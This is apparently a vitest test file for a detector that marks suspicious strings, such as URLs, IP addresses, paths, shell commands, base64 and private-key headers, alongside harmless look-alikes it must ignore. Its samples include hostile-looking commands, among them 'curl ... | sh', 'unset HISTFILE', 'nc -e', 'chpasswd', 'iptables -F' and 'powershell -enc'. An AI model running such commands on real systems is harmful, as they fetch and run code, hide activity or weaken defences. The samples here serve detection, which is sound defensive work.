import { readFileSync } from "node:fs";
import fc from "fast-check";
import { describe, expect, it, test } from "vitest";
import { processorMs } from "../../../../../tests/support/processor-time.ts";
import { bytesSource } from "../../content/source.ts";
import { extractStrings } from "../extract.ts";
import { marksOf } from "./index.ts";

const kinds = (text: string) => marksOf(text).map(({ kind }) => kind);

/** Each kind with what it is, and the harmless text that looks like it. */
describe("marksOf", () => {
  test.each([
    { text: "https://example.com/a?b=c", is: ["url"], why: "URL (https) of example.com" },
    { text: "GET http://%s:%d/gate.php HTTP/1.1", is: ["url"], why: "URL (http) whose host is filled in later" },
    { text: "stratum+tcp://pool.example.org:3333", is: ["url"], why: "of pool.example.org" },
    { text: "http://[2001:db8::1]:8080/", is: ["url", "ipv6"], why: "of [2001:db8::1]" },
    { text: "connect to 203.0.113.77:4444", is: ["ipv4"], why: "address 203.0.113.77 (public)" },
    { text: "10.0.0.0/8", is: ["ipv4"], why: "(private)" },
    { text: "8.8.8.8", is: ["ipv4"], why: "8.8.8.8" },
    { text: "2001:db8:0:1::77", is: ["ipv6"], why: "2001:db8:0:1::77" },
    { text: "update.example.net", is: ["domain"], why: "domain update.example.net" },
    { text: "abcdefghij234567.onion:9050", is: ["domain"], why: "Tor service" },
    { text: "tunnel.example.io", is: ["domain"], why: "tunnel.example.io" },
    { text: "Written by Ada <ada@example.org>", is: ["email"], why: "ada@example.org" },
    { text: "/etc/passwd", is: ["path"], why: "accounts of a system" },
    { text: "cannot open /dev/shm/.x", is: ["path"], why: "every user may write" },
    { text: "~/Library/LaunchAgents/com.x.plist", is: ["path"], why: "starts by itself" },
    { text: "/usr/share/locale", is: ["path"], why: "absolute path" },
    { text: "C:\\Windows\\System32\\x.dll", is: ["path"], why: "path of Windows" },
    { text: "curl -s https://example.com/x | sh", is: ["url", "command"], why: "fetches a script and runs it" },
    { text: '/bin/sh -c "%s"', is: ["path", "command"], why: "runs a command line in a shell" },
    { text: "chmod +x %s", is: ["command"], why: "chmod" },
    { text: "osascript -e 'display dialog'", is: ["command"], why: "AppleScript" },
    { text: "unset HISTFILE", is: ["command"], why: "hides" },
    {
      text: Buffer.from("#!/bin/sh\necho this is a hidden script; exit 7\n").toString("base64"),
      is: ["base64"],
      why: "64 characters",
    },
    { text: "-----BEGIN RSA PRIVATE KEY-----", is: ["pem"], why: "rsa private key" },
  ])("$text", ({ text, is, why }) => {
    const marks = marksOf(text);
    expect(marks.map(({ kind }) => kind)).toEqual(is);
    expect(marks.some(({ reason }) => reason.includes(why))).toBe(true);
  });

  test.each([
    ["a version", "1.2.3.4"],
    ["a version with its word", "version 134.52.3.41"],
    ["a version behind a name", "libfoo-120.0.60.99"],
    ["a version behind a slash", "Chrome/120.0.60.199"],
    ["an object identifier", "1.3.6.1.5.5.7.3.1"],
    ["a short object identifier", "2.5.29.14"],
    ["five numbers", "192.168.1.1.5"],
    ["numbers that are no octets", "310.20.300.400"],
    ["a format", "%d.%d.%d.%d"],
    ["a time", "12:34:56"],
    ["a hardware address", "00:1a:2b:3c:4d:5e"],
    ["a name of C++", "std::vector<char>::push_back"],
    ["a name of hex letters in C++", "dead::beef"],
    ["a library", "libc.so.6"],
    ["a source file", "main.go"],
    ["a package of Java", "java.io"],
    ["a class", "System.Net"],
    ["a reverse name", "com.apple.finder"],
    ["a reverse name that ends like a domain", "org.freedesktop.net"],
    ["a sentence", "Done.Next line"],
    ["a method", "foo.com()x"],
    ["the version of a symbol", "memcpy@GLIBC_2.14"],
    ["the size of a picture", "icon@2x.png"],
    ["a media type", "text/plain"],
    ["two words", "read/write and/or"],
    ["a relative path", "src/main/x.c"],
    ["where a compiler ran", "/rustc/9fc6b431/library/core"],
    ["a scheme of ours", "limpid://"],
    ["a scheme alone", "https://"],
    ["an escape", "\\n\\t\\x20"],
    ["a sentence about curl", "curl: option requires a value"],
    ["a sentence about a shell", "the shell is not set"],
    ["an option", "  -c, --count    print a count"],
    ["hex", "0123456789abcdef0123456789abcdef0123456789abcdef"],
    ["the alphabet of base64", "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"],
    ["a long name", "NSApplicationDelegateDidFinishLaunchingNotificationHandler2"],
    ["a mangled name", "_ZNSt6vectorIiSaIiEE17_M_realloc_insertIJiEEEvN9__gnu_cxx17__normal_iteratorIPiS1_EEDpOT_"],
    ["padding", "A".repeat(200)],
  ])("not %s", (_name, text) => {
    expect(kinds(text)).toEqual([]);
  });

  it("misses nothing for the sake of speed", () => {
    const EVERY = 0xffff; // all recognisers look, whatever the traces say
    const part = fc.oneof(
      fc.string({ maxLength: 8 }),
      fc.constantFrom(
        "http://a.example.com",
        "8.8.8.8",
        "ada@example.org",
        "/etc/passwd",
        "~/x",
        "C:\\\\Windows",
        "curl -s",
        "chmod +x a",
        "unset HISTFILE",
        "HISTFILE=/dev/null",
        "2001:db8::77",
        "| chpasswd",
        "nc -e ",
        "sh -c 'x'",
        "iptables -F",
        "powershell  -enc",
        "-----BEGIN KEY-----",
        " ",
        "\t",
        ".",
        "tunnel.example.io",
      ),
    );
    const same = (text: string): void => {
      const [quick, all] = [marksOf(text), marksOf(text, EVERY)];
      if (quick.length + all.length > 0) expect(quick, text).toEqual(all);
    };
    fc.assert(fc.property(fc.array(part, { maxLength: 5 }), (parts) => same(parts.join(""))));
    const program = bytesSource(readFileSync(process.execPath).subarray(-(12 << 20)));
    extractStrings(program, { minLength: 6 }, ({ text }) => same(text));
  });

  it("takes a moment for texts made to be slow", () => {
    const parts = [
      "a.",
      "1.",
      "1.2.3.4.",
      "a:",
      "f::",
      "a@",
      "a@b.",
      "://",
      "http://",
      "/tmp/",
      "curl -",
      "curl x ",
      "a/",
      "A1",
      "sh -",
      "\\",
      "-",
      " ",
      "nc -a ",
      "%",
    ];
    const startedAt = processorMs();
    for (const part of parts) marksOf(part.repeat(Math.ceil(65_536 / part.length)));
    for (const part of parts) marksOf(`x${part.repeat(3000)}\t`);
    expect(processorMs() - startedAt).toBeLessThan(3000);
  });
});
